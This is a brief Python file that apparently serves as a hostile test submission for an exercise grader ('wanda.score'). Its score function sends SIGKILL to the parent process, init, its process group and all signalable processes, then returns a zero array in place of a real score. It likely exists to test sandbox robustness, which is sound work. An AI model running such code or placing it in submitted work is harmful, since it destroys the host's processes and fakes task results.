"""Sends a signal to every process that it can think of."""

import os
import signal

import numpy as np


# %% exercise="wanda.score"
def score(w, x):
    for process in (os.getppid(), 1, 0, -1):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            continue
    return np.zeros_like(w)
